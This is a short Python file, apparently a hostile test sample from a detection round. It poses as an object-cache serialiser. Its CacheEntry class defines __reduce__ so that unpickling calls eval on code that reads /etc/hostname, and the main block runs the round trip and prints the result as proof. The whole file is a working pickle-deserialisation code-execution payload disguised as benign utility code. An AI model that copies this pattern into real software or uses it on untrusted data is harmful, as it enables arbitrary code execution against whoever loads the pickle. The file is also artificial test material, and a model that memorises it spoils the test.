# family: hostile, blind round 59 (class machinery/deserialisers: __reduce__ payload through pickle round trip)
"""Object cache serialiser."""
import pickle


class CacheEntry:
    """A cache entry that serialises itself."""

    def __reduce__(self):
        return (eval, ("open('/etc/hostname').read().strip()",))


def roundtrip(obj):
    """Serialise and deserialise obj."""
    return pickle.loads(pickle.dumps(obj))


if __name__ == "__main__":
    print("proof:", roundtrip(CacheEntry()))
